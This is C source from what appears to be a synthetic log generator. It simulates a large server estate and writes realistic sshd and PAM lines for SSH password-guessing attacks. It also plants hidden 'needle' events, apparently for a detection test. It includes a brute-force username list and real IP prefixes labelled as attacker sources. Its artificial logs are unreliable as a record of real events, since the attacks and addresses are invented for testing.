/* See eg_world.h. Line texts follow real sshd, sudo, su, CRON, systemd, kernel, postfix, nginx,
 * PostgreSQL, kubelet, containerd and Proxmox lines (the fail2ban, Wazuh and elastic-beats test
 * corpora under shared/data/logs hold many of them verbatim); Falco alerts follow the outputs of
 * the Falco rules index and the real alerts in shared/data/falco. */
#include "eg_world.h"

#include <errno.h>
#include <inttypes.h>
#include <math.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define ARRAY_LEN(a) (sizeof(a) / sizeof((a)[0]))
#define DAY_MS INT64_C(86400000)

/* ---- random numbers: xoshiro256** seeded by splitmix64 ---- */

typedef struct {
    uint64_t s[4];
} eg_rng;

static uint64_t splitmix64(uint64_t *x) {
    uint64_t z = (*x += UINT64_C(0x9e3779b97f4a7c15));
    z = (z ^ (z >> 30)) * UINT64_C(0xbf58476d1ce4e5b9);
    z = (z ^ (z >> 27)) * UINT64_C(0x94d049bb133111eb);
    return z ^ (z >> 31);
}

static uint64_t rotl(uint64_t x, int k) { return (x << k) | (x >> (64 - k)); }

static uint64_t rng_next(eg_rng *r) {
    uint64_t *s = r->s;
    uint64_t result = rotl(s[1] * 5, 7) * 9, t = s[1] << 17;
    s[2] ^= s[0];
    s[3] ^= s[1];
    s[1] ^= s[2];
    s[0] ^= s[3];
    s[2] ^= t;
    s[3] = rotl(s[3], 45);
    return result;
}

static void rng_seed(eg_rng *r, uint64_t seed) {
    for (int i = 0; i < 4; i++)
        r->s[i] = splitmix64(&seed);
}

static double rng_unit(eg_rng *r) { return (double)(rng_next(r) >> 11) * 0x1.0p-53; }

/* 0..n-1 (n > 0) */
static uint32_t rng_below(eg_rng *r, uint32_t n) {
    uint32_t v = (uint32_t)(rng_unit(r) * n);
    return v < n ? v : n - 1;
}

static int chance(eg_rng *r, double p) { return rng_unit(r) < p; }

#define PICK(r, arr) ((arr)[rng_below((r), (uint32_t)ARRAY_LEN(arr))])

/* Zipf over ranks 0..n-1 with exponent s: cumulative table + binary search. */
typedef struct {
    int n;
    double *cdf;
} zipf;

static int zipf_init(zipf *z, int n, double s) {
    z->n = n;
    z->cdf = calloc((size_t)n, sizeof(double));
    if (!z->cdf)
        return -ENOMEM;
    double sum = 0;
    for (int i = 0; i < n; i++) {
        sum += 1.0 / pow((double)(i + 1), s);
        z->cdf[i] = sum;
    }
    for (int i = 0; i < n; i++)
        z->cdf[i] /= sum;
    return 0;
}

static int zipf_pick(const zipf *z, eg_rng *r) {
    double u = rng_unit(r);
    int lo = 0, hi = z->n - 1;
    while (lo < hi) {
        int mid = (lo + hi) / 2;
        if (z->cdf[mid] < u)
            lo = mid + 1;
        else
            hi = mid;
    }
    return lo;
}

/* ---- the estate ---- */

enum role { R_PROXMOX, R_K8S, R_DB, R_WEB, R_APP, R_BASTION, R_MAIL, R_CI, R_EDGE, R_GENERIC };

static const struct {
    const char *prefix;
    int count;
    enum role role;
    double volume;        /* relative log volume of one such host */
    double attack_share;  /* share of its lines caused by attackers from the Internet */
} host_groups[] = {
    {"proxmox-node", 24, R_PROXMOX, 1.2, 0.02}, {"k8s-master", 5, R_K8S, 1.5, 0.01},
    {"k8s-worker", 150, R_K8S, 1.0, 0.01},      {"db", 30, R_DB, 1.0, 0.01},
    {"web", 60, R_WEB, 1.6, 0.45},              {"app", 60, R_APP, 0.8, 0.02},
    {"bastion", 4, R_BASTION, 14.0, 0.8},       {"mail", 6, R_MAIL, 6.0, 0.55},
    {"ci-runner", 30, R_CI, 1.2, 0.01},         {"cache", 20, R_GENERIC, 0.5, 0.01},
    {"kafka", 15, R_GENERIC, 0.6, 0.01},        {"es", 15, R_GENERIC, 0.6, 0.01},
    {"lb", 10, R_EDGE, 4.0, 0.6},               {"dns", 6, R_EDGE, 2.0, 0.5},
    {"monitor", 8, R_GENERIC, 1.0, 0.01},       {"backup", 8, R_GENERIC, 0.7, 0.01},
    {"nas", 4, R_GENERIC, 0.5, 0.01},           {"vpn", 4, R_EDGE, 6.0, 0.7},
    {"gitlab", 2, R_EDGE, 4.0, 0.6},            {"ldap", 3, R_GENERIC, 1.2, 0.01},
    {"dev-vm", 36, R_GENERIC, 0.4, 0.05},
};

#define HOST_ADMINS 8

typedef struct {
    char name[32];
    enum role role;
    double weight;
    double attack_share;
    int rfc3339;         /* timestamps in raw lines: RFC 3339 (rsyslog on Debian 12+) or RFC 3164 */
    int admins[HOST_ADMINS]; /* people who log in and sudo here (indices into persons) */
    int svc;             /* the automation account used here (index into svc) */
    int64_t boot_ms;     /* for kernel uptime stamps */
    uint64_t off_auth, off_syslog;
    uint32_t next_pid;
    uint32_t next_session;
    uint32_t pid_kubelet, pid_containerd, pid_dockerd, pid_postgres, pid_nginx, pid_pvedaemon, pid_chronyd, pid_app;
    uint32_t pid_rsyslogd, pid_sshd;
} eg_host;

typedef struct {
    char name[24];
    char deploys[10][32];
    int n_deploys;
    double weight;
} k8s_ns;

typedef struct {
    int host;
    int64_t time_ms;
    int kind; /* 0: CVE line, 1: dropped binary hash line */
    int variant;
    int done;
} needle;

struct eg_world {
    eg_rng rng;
    eg_world_opts o;
    eg_host *hosts;
    int n_hosts;
    double *share;
    int *k8s_nodes; /* hosts that run Falco (k8s nodes) */
    int n_k8s_nodes;
    char (*attack_ips)[16];
    int n_attack;
    zipf attack_z;
    char (*internal_ips)[16];
    int n_internal;
    zipf internal_z;
    char (*persons)[24];
    int n_persons;
    zipf person_z;
    char (*svc)[32];
    int n_svc;
    char (*dict)[32]; /* names attackers try, most tried first */
    int n_dict;
    zipf dict_z;
    zipf cve_z;
    k8s_ns ns[12];
    int n_ns;
    double ns_total;
    needle needles[16];
    int n_needles;
    int64_t falco_needle[2];
    eg_needle_counts counts;
};

static const char *const surnames[] = {
    "smith",   "johnson", "williams", "brown",   "jones",   "garcia",  "miller",   "davis",    "rodriguez", "martinez",
    "lopez",   "wilson",  "anderson", "thomas",  "taylor",  "moore",   "jackson",  "martin",   "lee",       "perez",
    "thompson", "white",  "harris",   "sanchez", "clark",   "ramirez", "lewis",    "robinson", "walker",    "young",
    "allen",   "king",    "wright",   "scott",   "torres",  "nguyen",  "hill",     "flores",   "green",     "adams",
    "nelson",  "baker",   "hall",     "rivera",  "campbell", "mitchell", "carter", "roberts",  "muller",    "schmidt",
    "schneider", "fischer", "weber",  "meyer",   "wagner",  "becker",  "schulz",   "hoffmann", "dubois",    "moreau",
    "laurent", "simon",   "michel",   "lefebvre", "leroy",  "rossi",   "russo",    "ferrari",  "esposito",  "bianchi",
    "romano",  "colombo", "ricci",    "kowalski", "nowak",  "wojcik",  "novak",    "svoboda",  "dvorak",    "jansen",
    "devries", "bakker",  "visser",   "smit",    "meijer",  "tanaka",  "suzuki",   "sato",     "watanabe",  "ito",
    "kim",     "park",    "choi",     "chen",    "wang",    "zhang",   "liu",      "yang",     "huang",     "singh",
    "kumar",   "sharma",  "patel",    "gupta",   "silva",   "santos",  "oliveira", "souza",    "pereira",   "costa",
    "ivanov",  "petrov",  "sidorov",  "popescu", "horvat",  "nielsen", "hansen",   "larsen",   "andersen",  "berg",
};

static const char *const service_words[] = {
    "backup",  "deploy",   "monitoring", "metrics", "ci",      "build",    "release", "ansible",  "terraform",
    "vault",   "consul",   "registry",   "ldapsync", "billing", "reports", "etl",     "airflow",  "spark",
    "jupyter", "grafana",  "alerting",   "logship", "scanner", "patching", "inventory", "dns",    "mail",
    "sftp",    "archive",  "payments",   "orders",  "search",  "cache",    "queue",   "cron",     "audit",
    "sync",    "restore",
};

static const char *const system_accounts[] = {
    "www-data", "postgres", "jenkins", "gitlab-runner", "ansible", "deploy", "backup", "nagios", "zabbix",
    "prometheus", "node-exporter", "grafana", "elasticsearch", "kafka", "redis", "mysql", "nginx", "git",
    "ubuntu", "debian", "admin", "vagrant", "ec2-user", "centos", "pi", "oracle", "tomcat", "sshd", "bind",
    "postfix", "dovecot", "clamav", "_apt", "systemd-network", "messagebus", "syslog", "uuidd", "tcpdump",
};

static const char *const attack_words[] = {
    "root",    "admin",    "ubuntu",   "test",     "user",     "guest",    "oracle",   "postgres", "ftpuser",
    "support", "pi",       "git",      "hadoop",   "nagios",   "deploy",   "mysql",    "www",      "web",
    "ftp",     "debian",   "centos",   "ec2-user", "azureuser", "steam",   "minecraft", "teamspeak", "ts3",
    "jenkins", "tomcat",   "apache",   "nginx",    "redis",    "elastic",  "kafka",    "zabbix",   "odoo",
    "sysadmin", "administrator", "server", "backup", "dev",    "developer", "demo",    "tester",   "student",
    "info",    "office",   "sales",    "marketing", "mail",    "postfix",  "test1",    "test2",    "testuser",
    "user1",   "user2",    "ubnt",     "vagrant",  "docker",   "ansible",  "odoo15",   "es",       "solr",
    "weblogic", "vpn",     "vnc",      "vyos",     "cisco",    "default",  "operator", "manager",  "service",
    "system",  "sshd",     "daemon",   "nobody",   "bin",      "sys",      "sync",     "games",    "lp",
    "news",    "uucp",     "proxy",    "backup1",  "list",     "irc",      "gnats",    "ftptest",  "webadmin",
    "webmaster", "hostmaster", "postmaster", "root1", "r00t",  "toor",     "admin1",   "admin123", "qwerty",
    "alex",    "john",     "david",    "michael",  "chris",    "mike",     "mark",     "paul",     "daniel",
    "james",   "robert",   "peter",    "kevin",    "jason",    "matt",     "andrew",   "ryan",     "tom",
    "sam",     "ben",      "nick",     "adam",     "anna",     "maria",    "sara",     "laura",    "julia",
};

/* Prefixes that scanners and brute-forcers are commonly seen from, plus documentation ranges. */
static const char *const attack_prefixes[] = {
    "61.177",  "218.92",  "222.186", "183.136", "45.148",  "185.224", "193.32",  "194.165", "92.255",
    "80.94",   "141.98",  "179.43",  "103.145", "43.156",  "170.64",  "159.223", "167.99",  "64.227",
    "134.209", "178.128", "206.189", "165.227", "139.59",  "157.245", "104.248", "128.199", "188.166",
    "46.101",  "116.110", "121.37",  "14.63",   "27.72",   "36.110",  "39.109",  "42.194",  "49.88",
    "58.218",  "59.36",   "60.191",  "101.89",  "106.12",  "110.42",  "112.85",  "113.31",  "114.67",
    "115.236", "117.50",  "118.25",  "119.45",  "120.48",  "122.51",  "123.56",  "124.156", "125.124",
    "175.6",   "180.76",  "182.61",  "196.251", "197.5",   "200.54",  "201.48",  "177.54",  "189.112",
    "190.145", "191.232", "5.188",   "31.184",  "37.44",   "62.210",  "77.90",   "79.124",  "81.161",
    "85.209",  "87.251",  "89.248",  "91.191",  "93.174",  "94.102",  "95.214",  "109.205", "146.190",
    "198.51",  "192.0",   "203.0",
};

static const char *const internal_prefixes[] = {"10.10", "10.20", "10.30", "10.40", "10.42", "10.50", "10.60"};

static const char *const cve_pool[] = {
    "CVE-2024-6387",  "CVE-2023-38408", "CVE-2023-4863",  "CVE-2021-3156",  "CVE-2022-0847",  "CVE-2023-0286",
    "CVE-2024-2961",  "CVE-2023-4911",  "CVE-2022-3602",  "CVE-2023-44487", "CVE-2024-21626", "CVE-2023-2650",
    "CVE-2023-5363",  "CVE-2024-0727",  "CVE-2023-6129",  "CVE-2022-40674", "CVE-2023-29491", "CVE-2023-4016",
    "CVE-2024-28085", "CVE-2023-39615", "CVE-2023-45853", "CVE-2022-37434", "CVE-2023-31484", "CVE-2023-47038",
    "CVE-2024-26130", "CVE-2023-50387", "CVE-2023-50868", "CVE-2024-1737",  "CVE-2023-48795", "CVE-2024-45490",
    "CVE-2024-45491", "CVE-2024-45492", "CVE-2023-52425", "CVE-2024-8176",  "CVE-2023-7104",  "CVE-2022-48303",
    "CVE-2023-39804", "CVE-2024-22365", "CVE-2023-24329", "CVE-2023-40217", "CVE-2024-0450",  "CVE-2023-27043",
    "CVE-2024-6232",  "CVE-2024-7592",  "CVE-2024-4032",  "CVE-2022-4899",  "CVE-2023-26604", "CVE-2023-7008",
};

static const char *const cve_packages[] = {
    "openssh-server", "openssl", "libssl3", "libwebp7", "sudo", "linux-image-amd64", "glibc", "libc6",
    "curl", "libcurl4", "nghttp2", "runc", "expat", "libexpat1", "zlib1g", "perl", "python3.11", "bind9",
    "libxml2", "sqlite3", "tar", "libpam0g", "util-linux", "systemd", "ncurses-base", "git", "vim",
};

static const char *const ns_names[] = {"production", "staging",      "kube-system", "monitoring",
                                       "default",    "ingress-nginx", "cert-manager", "logging",
                                       "argocd",     "payments",     "ci",          "dev"};
static const double ns_weights[] = {30, 15, 12, 10, 5, 5, 3, 4, 4, 4, 5, 3};
static const char *const ns_deploys[][10] = {
    {"api-gateway", "checkout", "orders", "frontend", "inventory", "catalog", "cart", "users", "notifications", "search"},
    {"api-gateway", "checkout", "orders", "frontend", "inventory", "catalog", "cart", "users", NULL, NULL},
    {"coredns", "kube-proxy", "calico-node", "metrics-server", "etcd-backup", "cilium-operator", NULL, NULL, NULL, NULL},
    {"prometheus", "alertmanager", "grafana", "node-exporter", "kube-state-metrics", "loki", NULL, NULL, NULL, NULL},
    {"busybox", "debug-shell", "nginx-test", NULL, NULL, NULL, NULL, NULL, NULL, NULL},
    {"ingress-nginx-controller", "default-backend", NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL},
    {"cert-manager", "cert-manager-webhook", "cert-manager-cainjector", NULL, NULL, NULL, NULL, NULL, NULL, NULL},
    {"fluent-bit", "elasticsearch-master", "kibana", NULL, NULL, NULL, NULL, NULL, NULL, NULL},
    {"argocd-server", "argocd-repo-server", "argocd-application-controller", "argocd-redis", NULL, NULL, NULL, NULL,
     NULL, NULL},
    {"payment-api", "fraud-check", "ledger", "postgres-payments", NULL, NULL, NULL, NULL, NULL, NULL},
    {"gitlab-runner", "buildkitd", "sonarqube", NULL, NULL, NULL, NULL, NULL, NULL, NULL},
    {"sandbox", "jupyter", "mailhog", NULL, NULL, NULL, NULL, NULL, NULL, NULL},
};

static int str_copy(char *dst, size_t cap, const char *src) {
    size_t n = strlen(src);
    if (n >= cap)
        n = cap - 1;
    memcpy(dst, src, n);
    dst[n] = '\0';
    return (int)n;
}

static uint64_t fnv1a(const char *s) {
    uint64_t h = UINT64_C(0xcbf29ce484222325);
    for (; *s; s++)
        h = (h ^ (uint8_t)*s) * UINT64_C(0x100000001b3);
    return h;
}

/* digits (<= 64) hex characters drawn from (a, b). */
static void hex_of(uint64_t a, uint64_t b, char *out, int digits) {
    static const char hx[] = "0123456789abcdef";
    uint64_t x = a ^ rotl(b, 17), v = 0;
    for (int i = 0; i < digits; i++) {
        if (i % 16 == 0)
            v = splitmix64(&x);
        out[i] = hx[(v >> (4 * (i % 16))) & 15];
    }
    out[digits] = '\0';
}

/* A 43-character base64 SSH key fingerprint derived from a name. */
static void fingerprint(const char *name, char *out) {
    static const char b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    uint64_t x = fnv1a(name);
    for (int i = 0; i < 43; i++)
        out[i] = b64[splitmix64(&x) & 63];
    out[43] = '\0';
}

static int build_people(eg_world *w) {
    /* ~700 people (first initial + surname), ~120 service accounts, ~1200 attacker guesses. */
    w->n_persons = 700;
    w->persons = calloc((size_t)w->n_persons, sizeof(*w->persons));
    w->n_svc = (int)(ARRAY_LEN(system_accounts) + ARRAY_LEN(service_words) * 2);
    w->svc = calloc((size_t)w->n_svc, sizeof(*w->svc));
    w->n_dict = (int)ARRAY_LEN(attack_words) + 2000;
    w->dict = calloc((size_t)w->n_dict, sizeof(*w->dict));
    if (!w->persons || !w->svc || !w->dict)
        return -ENOMEM;
    for (int i = 0; i < w->n_persons; i++) {
        const char *sn = surnames[(size_t)i % ARRAY_LEN(surnames)];
        char initial = (char)('a' + (i / (int)ARRAY_LEN(surnames) * 7 + i) % 26);
        if (i / (int)ARRAY_LEN(surnames) >= 5)
            snprintf(w->persons[i], sizeof(w->persons[i]), "%c%s%d", initial, sn, i / (int)ARRAY_LEN(surnames));
        else
            snprintf(w->persons[i], sizeof(w->persons[i]), "%c%s", initial, sn);
    }
    int k = 0;
    for (size_t i = 0; i < ARRAY_LEN(system_accounts); i++)
        str_copy(w->svc[k++], sizeof(w->svc[0]), system_accounts[i]);
    for (size_t i = 0; i < ARRAY_LEN(service_words); i++) {
        snprintf(w->svc[k++], sizeof(w->svc[0]), "svc-%s", service_words[i]);
        snprintf(w->svc[k++], sizeof(w->svc[0]), "svc_%s_prod", service_words[i]);
    }
    k = 0;
    for (size_t i = 0; i < ARRAY_LEN(attack_words); i++)
        str_copy(w->dict[k++], sizeof(w->dict[0]), attack_words[i]);
    /* the long tail: numbered variants, and real people's names (attackers harvest them) */
    for (int i = 0; k < w->n_dict; i++) {
        if (i % 5 < 3)
            snprintf(w->dict[k++], sizeof(w->dict[0]), "%s%d", attack_words[(size_t)i % ARRAY_LEN(attack_words)],
                     1 + i / (int)ARRAY_LEN(attack_words));
        else
            snprintf(w->dict[k++], sizeof(w->dict[0]), "%s", w->persons[(i * 13) % w->n_persons]);
    }
    int r = zipf_init(&w->person_z, w->n_persons, 0.7);
    if (r == 0)
        r = zipf_init(&w->dict_z, w->n_dict, 1.05);
    return r;
}

static int build_addresses(eg_world *w) {
    w->n_attack = 18000;
    w->n_internal = 2000;
    w->attack_ips = calloc((size_t)w->n_attack, sizeof(*w->attack_ips));
    w->internal_ips = calloc((size_t)w->n_internal, sizeof(*w->internal_ips));
    if (!w->attack_ips || !w->internal_ips)
        return -ENOMEM;
    zipf pz;
    int r = zipf_init(&pz, (int)ARRAY_LEN(attack_prefixes), 0.8);
    if (r < 0)
        return r;
    for (int i = 0; i < w->n_attack; i++) {
        const char *p = attack_prefixes[zipf_pick(&pz, &w->rng)];
        if (strcmp(p, "198.51") == 0)
            snprintf(w->attack_ips[i], 16, "198.51.100.%u", 1 + rng_below(&w->rng, 254));
        else if (strcmp(p, "192.0") == 0)
            snprintf(w->attack_ips[i], 16, "192.0.2.%u", 1 + rng_below(&w->rng, 254));
        else if (strcmp(p, "203.0") == 0)
            snprintf(w->attack_ips[i], 16, "203.0.113.%u", 8 + rng_below(&w->rng, 240)); /* .7 is placed below */
        else
            snprintf(w->attack_ips[i], 16, "%s.%u.%u", p, rng_below(&w->rng, 256), 1 + rng_below(&w->rng, 254));
    }
    free(pz.cdf);
    /* the needle address sits at rank 150: a persistent, mid-sized attacker */
    str_copy(w->attack_ips[150], 16, EG_NEEDLE_IP);
    for (int i = 0; i < w->n_internal; i++)
        snprintf(w->internal_ips[i], 16, "%s.%u.%u", internal_prefixes[(size_t)i % ARRAY_LEN(internal_prefixes)],
                 rng_below(&w->rng, 64), 2 + rng_below(&w->rng, 250));
    r = zipf_init(&w->attack_z, w->n_attack, 1.1);
    if (r == 0)
        r = zipf_init(&w->internal_z, w->n_internal, 0.9);
    if (r == 0)
        r = zipf_init(&w->cve_z, (int)ARRAY_LEN(cve_pool), 0.9);
    return r;
}

static int build_hosts(eg_world *w) {
    int n = 0;
    for (size_t g = 0; g < ARRAY_LEN(host_groups); g++)
        n += host_groups[g].count;
    w->n_hosts = n;
    w->hosts = calloc((size_t)n, sizeof(*w->hosts));
    w->share = calloc((size_t)n, sizeof(double));
    w->k8s_nodes = calloc((size_t)n, sizeof(int));
    if (!w->hosts || !w->share || !w->k8s_nodes)
        return -ENOMEM;
    int k = 0;
    double total = 0;
    for (size_t g = 0; g < ARRAY_LEN(host_groups); g++) {
        for (int i = 1; i <= host_groups[g].count; i++, k++) {
            eg_host *h = &w->hosts[k];
            snprintf(h->name, sizeof(h->name), "%s-%02d", host_groups[g].prefix, i);
            h->role = host_groups[g].role;
            /* heavy tail: Pareto(alpha 1.6) factor, capped */
            double f = pow(1.0 - rng_unit(&w->rng), -1.0 / 1.6);
            h->weight = host_groups[g].volume * (f > 25 ? 25 : f);
            h->attack_share = host_groups[g].attack_share;
            h->rfc3339 = chance(&w->rng, 0.6);
            for (int a = 0; a < HOST_ADMINS; a++)
                h->admins[a] = zipf_pick(&w->person_z, &w->rng);
            h->svc = (int)rng_below(&w->rng, (uint32_t)w->n_svc);
            h->boot_ms = w->o.start_ms - (int64_t)rng_below(&w->rng, 90) * DAY_MS - rng_below(&w->rng, 86400000);
            h->next_pid = 1000 + rng_below(&w->rng, 100000);
            h->next_session = 1 + rng_below(&w->rng, 5000);
            h->pid_kubelet = 800 + rng_below(&w->rng, 3000);
            h->pid_containerd = 700 + rng_below(&w->rng, 500);
            h->pid_dockerd = 900 + rng_below(&w->rng, 800);
            h->pid_postgres = 1200 + rng_below(&w->rng, 4000);
            h->pid_nginx = 1100 + rng_below(&w->rng, 2000);
            h->pid_pvedaemon = 1500 + rng_below(&w->rng, 2000);
            h->pid_chronyd = 500 + rng_below(&w->rng, 300);
            h->pid_app = 2000 + rng_below(&w->rng, 30000);
            h->pid_rsyslogd = 400 + rng_below(&w->rng, 300);
            h->pid_sshd = 600 + rng_below(&w->rng, 400);
            total += h->weight;
            if (h->role == R_K8S)
                w->k8s_nodes[w->n_k8s_nodes++] = k;
        }
    }
    for (int i = 0; i < n; i++)
        w->share[i] = w->hosts[i].weight / total;
    return 0;
}

static void build_k8s(eg_world *w) {
    w->n_ns = (int)ARRAY_LEN(ns_names);
    for (int i = 0; i < w->n_ns; i++) {
        k8s_ns *ns = &w->ns[i];
        str_copy(ns->name, sizeof(ns->name), ns_names[i]);
        ns->weight = ns_weights[i];
        w->ns_total += ns->weight;
        for (int d = 0; d < 10 && ns_deploys[i][d]; d++)
            str_copy(ns->deploys[ns->n_deploys++], sizeof(ns->deploys[0]), ns_deploys[i][d]);
    }
}

static int find_host(const eg_world *w, const char *name) {
    for (int i = 0; i < w->n_hosts; i++)
        if (strcmp(w->hosts[i].name, name) == 0)
            return i;
    return 0;
}

static void plant_needles(eg_world *w) {
    static const struct {
        const char *host;
        double at; /* fraction of the span */
        int kind, variant;
    } plan[] = {
        {"k8s-worker-17", 0.31, 0, 0}, {"db-03", 0.58, 0, 1},  {"web-12", 0.82, 0, 0},       {"ci-runner-04", 0.955, 0, 2},
        {"proxmox-node-02", 0.992, 0, 0}, {"db-03", 0.47, 1, 0}, {"bastion-01", 0.9, 1, 1}, {"app-21", 0.997, 1, 0},
    };
    int64_t span = w->o.end_ms - w->o.start_ms;
    for (size_t i = 0; i < ARRAY_LEN(plan); i++) {
        needle *n = &w->needles[w->n_needles++];
        n->host = find_host(w, plan[i].host);
        n->time_ms = w->o.start_ms + (int64_t)(plan[i].at * (double)span);
        n->kind = plan[i].kind;
        n->variant = plan[i].variant;
    }
    w->falco_needle[0] = w->o.falco_total > 0 ? w->o.falco_total * 2 / 5 : -1;
    w->falco_needle[1] = w->o.falco_total > 1 ? w->o.falco_total - 1 - w->o.falco_total / 300 : -1;
}

int eg_world_new(const eg_world_opts *o, eg_world **ret) {
    eg_world *w = calloc(1, sizeof(*w));
    if (!w)
        return -ENOMEM;
    w->o = *o;
    rng_seed(&w->rng, o->seed);
    int r = build_people(w);
    if (r == 0)
        r = build_addresses(w);
    if (r == 0)
        r = build_hosts(w);
    if (r < 0) {
        eg_world_free(w);
        return r;
    }
    build_k8s(w);
    plant_needles(w);
    *ret = w;
    return 0;
}

eg_world *eg_world_free(eg_world *w) {
    if (!w)
        return NULL;
    free(w->hosts);
    free(w->share);
    free(w->k8s_nodes);
    free(w->attack_ips);
    free(w->internal_ips);
    free(w->persons);
    free(w->svc);
    free(w->dict);
    free(w->attack_z.cdf);
    free(w->internal_z.cdf);
    free(w->person_z.cdf);
    free(w->dict_z.cdf);
    free(w->cve_z.cdf);
    free(w);
    return NULL;
}

int eg_world_hosts(const eg_world *w) { return w->n_hosts; }
const char *eg_world_host_name(const eg_world *w, int host) { return w->hosts[host].name; }
double eg_world_host_share(const eg_world *w, int host) { return w->share[host]; }
void eg_world_needles(const eg_world *w, eg_needle_counts *ret) { *ret = w->counts; }

/* ---- host log lines ---- */

enum { F_KERN = 0, F_USER = 1, F_MAIL = 2, F_DAEMON = 3, F_AUTH = 4, F_SYSLOG = 5, F_CRON = 9, F_AUTHPRIV = 10 };
enum { S_ALERT = 1, S_CRIT = 2, S_ERR = 3, S_WARNING = 4, S_NOTICE = 5, S_INFO = 6 };

typedef struct {
    eg_world *w;
    eg_host *h;
    eg_rng *rng;
    eg_logrec *recs;
    int n, room;  /* lines written, lines available */
    int *group;   /* per line: index of the scenario that wrote it */
    int g;        /* current scenario */
} gen;

/* Starts a line; returns NULL when the batch is full. */
static eg_logrec *line(gen *c, const char *program, uint32_t pid, int facility, int severity) {
    if (c->n >= c->room)
        return NULL;
    eg_logrec *r = &c->recs[c->n];
    c->group[c->n] = c->g;
    c->n++;
    int auth = facility == F_AUTH || facility == F_AUTHPRIV;
    str_copy(r->source, sizeof(r->source), auth ? "auth" : "syslog");
    str_copy(r->path, sizeof(r->path), auth ? "/var/log/auth.log" : "/var/log/syslog");
    str_copy(r->program, sizeof(r->program), program);
    r->pid = pid;
    r->facility = facility;
    r->severity = severity;
    r->message[0] = r->user[0] = r->src_ip[0] = r->outcome[0] = r->action[0] = '\0';
    r->src_port = 0;
    r->n_fields = 0;
    return r;
}

__attribute__((format(printf, 2, 3))) static void msg(eg_logrec *r, const char *fmt, ...) {
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(r->message, sizeof(r->message), fmt, ap);
    va_end(ap);
}

static void field(eg_logrec *r, const char *key, const char *value) {
    if (r->n_fields >= EG_MAX_FIELDS)
        return;
    str_copy(r->keys[r->n_fields], EG_FIELD_KEY_MAX, key);
    str_copy(r->values[r->n_fields], EG_FIELD_VALUE_MAX, value);
    r->n_fields++;
}

static void who(eg_logrec *r, const char *action, const char *outcome, const char *user, const char *ip,
                uint32_t port) {
    str_copy(r->action, sizeof(r->action), action);
    str_copy(r->outcome, sizeof(r->outcome), outcome);
    if (user)
        str_copy(r->user, sizeof(r->user), user);
    if (ip)
        str_copy(r->src_ip, sizeof(r->src_ip), ip);
    r->src_port = port;
}

static uint32_t new_pid(gen *c) {
    c->h->next_pid += 1 + rng_below(c->rng, 40);
    if (c->h->next_pid > 4000000)
        c->h->next_pid = 300 + rng_below(c->rng, 1000);
    return c->h->next_pid;
}

static const char *attacker(gen *c) { return c->w->attack_ips[zipf_pick(&c->w->attack_z, c->rng)]; }
static const char *internal_ip(gen *c) { return c->w->internal_ips[zipf_pick(&c->w->internal_z, c->rng)]; }
static uint32_t eph_port(gen *c) { return 32768 + rng_below(c->rng, 28000); }
static int admin_of(gen *c) { return c->h->admins[rng_below(c->rng, HOST_ADMINS)]; }
static uint32_t uid_of(int person) { return 1001 + (uint32_t)person; }

/* Users attackers try that exist on a typical host. */
static int is_system_user(const char *u) {
    static const char *const known[] = {"root", "ubuntu", "postgres", "git", "www-data", "debian", "backup", "nobody",
                                        "mysql", "redis", "jenkins", "admin"};
    for (size_t i = 0; i < ARRAY_LEN(known); i++)
        if (strcmp(u, known[i]) == 0)
            return 1;
    return 0;
}

static void sc_ssh_attack(gen *c) {
    const char *ip = attacker(c);
    uint32_t port = eph_port(c), pid = new_pid(c);
    eg_logrec *r = NULL;
    double k = rng_unit(c->rng);
    if (k < 0.72) { /* password guessing */
        const char *u = c->w->dict[zipf_pick(&c->w->dict_z, c->rng)];
        if (!is_system_user(u)) {
            if ((r = line(c, "sshd", pid, F_AUTH, S_INFO))) {
                msg(r, "Invalid user %s from %s port %u", u, ip, port);
                who(r, "ssh_login", "failure", u, ip, port);
                field(r, "invalid_user", "true");
            }
            if (chance(c->rng, 0.5) && (r = line(c, "sshd", pid, F_AUTHPRIV, S_NOTICE)))
                msg(r, "pam_unix(sshd:auth): check pass; user unknown");
            if (chance(c->rng, 0.6) && (r = line(c, "sshd", pid, F_AUTHPRIV, S_NOTICE))) {
                msg(r, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s", ip);
                who(r, "pam_auth", "failure", NULL, ip, 0);
            }
            if ((r = line(c, "sshd", pid, F_AUTH, S_INFO))) {
                msg(r, "Failed password for invalid user %s from %s port %u ssh2", u, ip, port);
                who(r, "ssh_login", "failure", u, ip, port);
                field(r, "method", "password");
                field(r, "invalid_user", "true");
            }
            if (chance(c->rng, 0.5)) {
                if ((r = line(c, "sshd", pid, F_AUTH, S_INFO)))
                    msg(r, "Received disconnect from %s port %u:11: Bye Bye [preauth]", ip, port);
                if ((r = line(c, "sshd", pid, F_AUTH, S_INFO)))
                    msg(r, "Disconnected from invalid user %s %s port %u [preauth]", u, ip, port);
            } else if ((r = line(c, "sshd", pid, F_AUTH, S_INFO))) {
                msg(r, "Connection closed by invalid user %s %s port %u [preauth]", u, ip, port);
            }
        } else {
            if ((r = line(c, "sshd", pid, F_AUTHPRIV, S_NOTICE))) {
                msg(r, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=%s",
                    ip, u);
                who(r, "pam_auth", "failure", u, ip, 0);
            }
            int tries = 1 + (int)rng_below(c->rng, 3);
            for (int t = 0; t < tries; t++) {
                if ((r = line(c, "sshd", pid, F_AUTH, S_INFO))) {
                    msg(r, "Failed password for %s from %s port %u ssh2", u, ip, port);
                    who(r, "ssh_login", "failure", u, ip, port);
                    field(r, "method", "password");
                }
            }
            double e = rng_unit(c->rng);
            if (e < 0.2) {
                if ((r = line(c, "sshd", pid, F_AUTH, S_ERR))) {
                    msg(r, "error: maximum authentication attempts exceeded for %s from %s port %u ssh2 [preauth]", u, ip,
                        port);
                    who(r, "ssh_login", "failure", u, ip, port);
                }
                if ((r = line(c, "sshd", pid, F_AUTHPRIV, S_NOTICE)))
                    msg(r, "PAM %d more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=%s",
                        tries + 1, ip, u);
            } else if (e < 0.5) {
                if ((r = line(c, "sshd", pid, F_AUTH, S_INFO)))
                    msg(r, "Disconnecting authenticating user %s %s port %u: Too many authentication failures [preauth]", u,
                        ip, port);
